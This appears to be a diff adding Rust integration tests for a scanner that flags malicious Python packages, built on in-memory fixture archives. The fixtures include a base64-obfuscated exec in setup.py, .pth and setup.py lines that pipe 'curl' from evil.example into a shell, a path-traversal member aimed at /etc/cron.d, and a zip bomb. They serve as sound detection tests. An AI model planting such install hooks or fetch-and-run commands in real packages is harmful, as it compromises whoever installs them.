@@ -1,0 +1,200 @@
+//! The pipeline end to end on archives built here: every archive kind, hostile archives,
+//! and the report contract.
+
+use std::io::Write;
+
+use malpi_rules::VerdictKind;
+use malpi_scan::{Limits, PackageInfo, PackageKind, Report, ScanOptions, scan_bytes};
+
+const EVIL_SETUP: &str = "import base64\nfrom setuptools import setup\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImlkIik='))\nsetup(name='evil')\n";
+const HONEST_SETUP: &str = "from setuptools import setup\nsetup(name='honest', version='1.0')\n";
+
+fn targz(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut b = tar::Builder::new(Vec::new());
+    for (path, data) in members {
+        let mut h = tar::Header::new_gnu();
+        h.set_size(data.len() as u64);
+        h.set_mode(0o644);
+        h.set_entry_type(tar::EntryType::Regular);
+        // set_path refuses "..": write the raw name so hostile paths can be built.
+        let name = path.as_bytes();
+        h.as_old_mut().name[..name.len()].copy_from_slice(name);
+        h.set_cksum();
+        b.append(&h, *data).unwrap();
+    }
+    let tar = b.into_inner().unwrap();
+    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+    gz.write_all(&tar).unwrap();
+    gz.finish().unwrap()
+}
+
+fn zip(members: &[(&str, &[u8])]) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
+    for (path, data) in members {
+        w.start_file(*path, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        w.write_all(data).unwrap();
+    }
+    w.finish().unwrap().into_inner()
+}
+
+fn scan(file: &str, bytes: &[u8]) -> Report {
+    scan_bytes(
+        PackageInfo::new(file.into(), PackageKind::File),
+        bytes,
+        &ScanOptions::default(),
+    )
+}
+
+#[test]
+fn malicious_sdist_is_explained_down_to_the_line() {
+    let r = scan(
+        "/x/evil-0.1.tar.gz",
+        &targz(&[
+            ("evil-0.1/setup.py", EVIL_SETUP.as_bytes()),
+            (
+                "evil-0.1/PKG-INFO",
+                b"Metadata-Version: 2.1\nName: evil\nVersion: 0.1\n",
+            ),
+        ]),
+    );
+    assert_eq!(r.verdict, VerdictKind::Malicious, "{r:#?}");
+    assert_eq!(r.package.kind, PackageKind::Sdist);
+    assert_eq!(
+        (r.package.name.as_str(), r.package.version.as_str()),
+        ("evil", "0.1")
+    );
+    assert_eq!(r.package.sha256.len(), 64);
+    let f = r
+        .findings
+        .iter()
+        .find(|f| f.rule == "EXE001")
+        .expect("EXE001");
+    assert_eq!((f.path.as_str(), f.line), ("evil-0.1/setup.py", 3));
+    assert!(f.snippet.contains("b64decode"));
+    assert_eq!(f.trigger, Some(malpi_python::Trigger::Install));
+    assert!(!r.reasons.is_empty());
+}
+
+#[test]
+fn honest_sdist_is_clean() {
+    let r = scan(
+        "/x/honest-1.0.tar.gz",
+        &targz(&[
+            ("honest-1.0/setup.py", HONEST_SETUP.as_bytes()),
+            (
+                "honest-1.0/honest/__init__.py",
+                b"import subprocess\n\ndef run(cmd):\n    return subprocess.run(cmd)\n",
+            ),
+        ]),
+    );
+    assert_eq!(r.verdict, VerdictKind::Clean, "{r:#?}");
+    assert!(r.iocs.is_empty());
+}
+
+#[test]
+fn wheel_named_tar_gz_is_read_as_wheel_and_pth_found() {
+    let r = scan(
+        "/x/w-1.0.tar.gz",
+        &zip(&[
+            ("w/__init__.py", b""),
+            ("w-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
+            (
+                "w-1.0.pth",
+                b"import os; os.system('curl -s https://evil.example/x | sh')\n",
+            ),
+        ]),
+    );
+    assert_eq!(r.package.kind, PackageKind::Wheel);
+    assert!(r.findings.iter().any(|f| f.rule == "TEC001"), "{r:#?}");
+    assert_eq!(r.verdict, VerdictKind::Malicious);
+    assert!(
+        r.iocs
+            .iter()
+            .any(|i| i.kind == "domain" && i.value == "evil.example"),
+        "{:?}",
+        r.iocs
+    );
+}
+
+#[test]
+fn path_traversal_member_is_a_finding() {
+    let r = scan(
+        "/x/t-1.0.tar.gz",
+        &targz(&[
+            ("t-1.0/setup.py", HONEST_SETUP.as_bytes()),
+            ("../../etc/cron.d/x", b"* * * * * root id\n"),
+        ]),
+    );
+    assert!(r.findings.iter().any(|f| f.rule == "PKG002"), "{r:#?}");
+}
+
+#[test]
+fn zip_bomb_trips_a_limit_with_a_finding_and_an_error() {
+    let zeros = vec![0u8; 8 << 20];
+    let bytes = zip(&[
+        ("b/setup.py", HONEST_SETUP.as_bytes()),
+        ("b/data.bin", &zeros),
+    ]);
+    let limits = Limits {
+        max_member_bytes: 1 << 20,
+        ..Limits::default()
+    };
+    let r = scan_bytes(
+        PackageInfo::new("/x/b.zip".into(), PackageKind::File),
+        &bytes,
+        &ScanOptions { limits },
+    );
+    assert!(r.findings.iter().any(|f| f.rule == "PKG001"), "{r:#?}");
+    assert!(!r.errors.is_empty());
+    assert_ne!(r.verdict, VerdictKind::Error);
+}
+
+#[test]
+fn empty_and_garbage_inputs_are_error_reports() {
+    let r = scan("/x/empty.tar.gz", b"");
+    assert_eq!(r.verdict, VerdictKind::Error);
+    assert!(r.errors[0].contains("empty"));
+    let r = scan("/x/garbage.tar.gz", &[0x1f, 0x8b, 8, 0, 1, 2, 3]);
+    assert!(
+        matches!(r.verdict, VerdictKind::Error | VerdictKind::Clean),
+        "{r:#?}"
+    );
+    assert!(!r.errors.is_empty());
+}
+
+#[test]
+fn bare_python_file_and_python2_are_analysed() {
+    let r = scan(
+        "/x/setup.py",
+        b"import os\nprint \"py2\"\nos.system('curl http://evil.example/a | bash')\n",
+    );
+    assert_eq!(r.package.kind, PackageKind::File);
+    assert_eq!(r.verdict, VerdictKind::Malicious, "{r:#?}");
+}
+
+#[test]
+fn shipped_executable_is_reported() {
+    let r = scan(
+        "/x/e-1.0.tar.gz",
+        &targz(&[
+            ("e-1.0/setup.py", HONEST_SETUP.as_bytes()),
+            ("e-1.0/e/tool.exe", b"MZ\x90\x00rest of a PE file"),
+        ]),
+    );
+    assert!(
+        r.findings
+            .iter()
+            .any(|f| f.rule == "PKG003" && f.path.ends_with("tool.exe")),
+        "{r:#?}"
+    );
+}
+
+#[test]
+fn unpacked_folder_is_scanned_and_setup_py_runs_at_install() {
+    let dir = tempfile::tempdir().unwrap();
+    std::fs::write(dir.path().join("setup.py"), EVIL_SETUP).unwrap();
+    let r = malpi_scan::scan_path(dir.path(), &ScanOptions::default());
+    assert_eq!(r.package.kind, PackageKind::Dir);
+    assert_eq!(r.verdict, VerdictKind::Malicious, "{r:#?}");
+}
